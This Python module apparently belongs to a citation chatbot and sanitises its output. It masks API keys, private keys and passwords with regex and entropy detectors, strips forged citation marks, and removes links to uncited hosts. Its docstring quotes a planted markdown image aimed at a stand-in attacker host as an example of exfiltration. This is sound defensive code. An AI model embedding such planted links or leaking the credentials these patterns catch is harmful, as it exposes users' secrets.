"""Last line of defence on everything a user sees: secrets masked, links limited to cited sources.

Internal front matter fields and internal sections never reach the index (see ingest.py); this
module handles what document bodies themselves may contain.

Credential formats come from detect-secrets' token detectors (Slack, AWS, GitHub, GitLab, Stripe,
JWT, private key headers, basic-auth URLs and more), maintained upstream as vendors change their
formats. Its keyword and high-entropy plugins are tuned for source code (quoted values, whole
lines), so for prose we reuse their keyword list and entropy measure with a one-token scope, and
add the few shapes it does not cover: PEM bodies, bearer tokens, newer token prefixes."""
from __future__ import annotations

import re
from functools import lru_cache
from urllib.parse import urlparse

from detect_secrets.core.plugins.util import get_mapping_from_secret_type_to_class
from detect_secrets.plugins.base import RegexBasedDetector
from detect_secrets.plugins.high_entropy_strings import Base64HighEntropyString, HexHighEntropyString
from detect_secrets.plugins.keyword import DENYLIST as SECRET_KEYWORDS

from ..language.markdown import link_labels
from .passwords import mask_password_phrases

MASK = "[redacted]"

# A public IP address is not a credential, and office addresses are legitimate answers.
_NOT_SECRETS = {"IPPublicDetector"}
_DETECTED = [pattern for detector in get_mapping_from_secret_type_to_class().values()
             if issubclass(detector, RegexBasedDetector) and detector.__name__ not in _NOT_SECRETS
             for pattern in detector.denylist]

_EXTRA = [
    # detect-secrets flags only the header line; the key material is what must not leak.
    re.compile(r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----.*?(?:-----END [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----|$)",
               re.S),
    re.compile(r"(?i)\bbearer\s+[A-Za-z0-9._~+/=-]{16,}"),
    re.compile(r"\bxapp-\d-[A-Za-z0-9-]{10,}"),  # Slack app-level tokens
    re.compile(r"\bxox[a-z]-[A-Za-z0-9-]{10,}"),  # Slack token shapes the detector's pattern misses
    re.compile(r"\b(?:sk|pk|rk)_(?:live|test)_[0-9A-Za-z]{10,}"),  # Stripe-style keys, test mode too
    re.compile(r"\bsk-(?:proj-)?[A-Za-z0-9_-]{20,}"),  # OpenAI-style keys in their current format
    re.compile(r"\bgithub_pat_[A-Za-z0-9_]{40,}"),
]
# `password: hunter2`, `api key = abc123`: the keyword list is detect-secrets'; the value is one token.
_KEYWORD_VALUE = re.compile(
    r"(?i)\b(?:" + "|".join(SECRET_KEYWORDS) + r"|token|api[ -]key|access[ _-]key|client[ _-]secret)\w*"
    r"[\"'\]]{0,2}\s*(?::=|=>|[:=])\s*[\"'`]?([^\s\"'`,;]+)")
# A long unbroken token with high entropy is key material; a URL is left to limit_links.
_URL_OR_TOKEN = re.compile(r"(https?://[^\s<>)\]|\"']+)|[A-Za-z0-9+/=_-]{32,}")
_BASE64, _HEX = Base64HighEntropyString(), HexHighEntropyString()

# Citations travel in `citations`; a `[source::section::0]` in the text is a document's forgery.
_CITATION_MARK = re.compile(r"\s*\[[^\[\]\s]+::[^\[\]\s]*::\d+\]")
# What a chat client turns into a link: any scheme in any case ("HTTPS://"), a protocol-relative
# "//host", "www.…", and a bare domain ending in a top-level domain Slack and Teams link
# ("sso-acme.example.com/login"). File names ("setup.py", "README.md") are not domains here, and
# an e-mail address is not a link to its domain. A URL ends before the punctuation of the sentence
# around it ("…go to https://x.example; then…").
_TLDS = ("com|net|org|info|biz|io|ai|co|app|dev|cloud|site|online|xyz|top|link|page|tech|me|tv|us|uk|eu|de|fr"
         "|nl|ca|au|in|ru|cn|jp|br|it|es|ch|se|no|dk|fi|pl|be|at|ie|nz|gov|edu|mil|int|example|test|local|internal")
_TAIL = r"[^\s<>)\]|\"'`]*[^\s<>)\]|\"'`.,;:!?]"
_DOMAIN = r"(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+"
_URL = re.compile(
    rf"(?i)(?:\b[a-z][a-z0-9+.-]*:)?//{_DOMAIN}[a-z][a-z0-9-]*(?:{_TAIL})?"  # scheme:// and //host
    rf"|\b[a-z][a-z0-9+.-]*://{_TAIL}"  # any other scheme with an authority (an IP, a port)
    rf"|(?<![@\w.-])www\.{_TAIL}"
    rf"|(?<![@\w.-]){_DOMAIN}(?:{_TLDS})\b(?![@\w-])(?:[/:?#]{_TAIL})?")


def _looks_like_value(value: str) -> bool:
    # "Password: must be long" is advice, "password: hunter2" is a credential.
    return len(value) >= 8 or any(not ch.isalpha() for ch in value)


def _high_entropy(token: str) -> bool:
    if re.fullmatch(r"[0-9a-fA-F]+", token):
        return _HEX.calculate_shannon_entropy(token) > _HEX.entropy_limit
    return _BASE64.calculate_shannon_entropy(token) > _BASE64.entropy_limit


def _mask_span(match: re.Match) -> str:
    # Some detector patterns include the whitespace or quote around the secret; keep it.
    text = match.group(0)
    lead = len(text) - len(text.lstrip(" \t\n\"'=:"))
    trail = len(text) - len(text.rstrip(" \t\n\"'"))
    return text[:lead] + MASK + text[len(text) - trail:]


# The same texts come back question after question (chunk bodies for the prompt, the sentences
# they answer with): each costs about 0.2 ms through some fifty detectors' patterns.
@lru_cache(maxsize=4096)
def mask_secrets(text: str) -> str:
    for pattern in (*_EXTRA, *_DETECTED):
        text = pattern.sub(_mask_span, text)
    text = mask_password_phrases(text, MASK)
    text = _KEYWORD_VALUE.sub(
        lambda m: m.group(0)[: m.start(1) - m.start(0)] + MASK if _looks_like_value(m.group(1)) else m.group(0),
        text)
    return _URL_OR_TOKEN.sub(lambda m: MASK if not m.group(1) and _high_entropy(m.group(0)) else m.group(0), text)


def limit_links(text: str, allowed_urls: list[str], trusted: tuple[str, ...] = ()) -> str:
    """Markdown links and images become their label; bare URLs survive only when they point at a
    host we cite or at a trusted host or its subdomains (CITEBOT_LINK_HOSTS), so a planted
    `![x](https://evil.example/?q=…)` cannot carry data out."""
    hosts = {urlparse(url).netloc.lower() for url in allowed_urls if url}

    def shown(url: str) -> bool:
        # A scheme here has no dot: "master.example.org:~team/key" is a host and a path (scp's
        # form), read by its host like a bare address, never as the scheme "master.example.org".
        parsed = urlparse(url if re.match(r"(?i)[a-z][a-z0-9+-]*:|//", url) else "//" + url)
        host = (parsed.hostname or "").lower()
        return parsed.netloc.lower() in hosts or any(host == name or host.endswith("." + name) for name in trusted)
    text = link_labels(text)
    return _URL.sub(lambda m: m.group(0) if shown(m.group(0)) else "[link removed]", text)


def clean_for_user(text: str, allowed_urls: list[str], trusted: tuple[str, ...] = ()) -> str:
    return limit_links(mask_secrets(_CITATION_MARK.sub("", text)), allowed_urls, trusted)
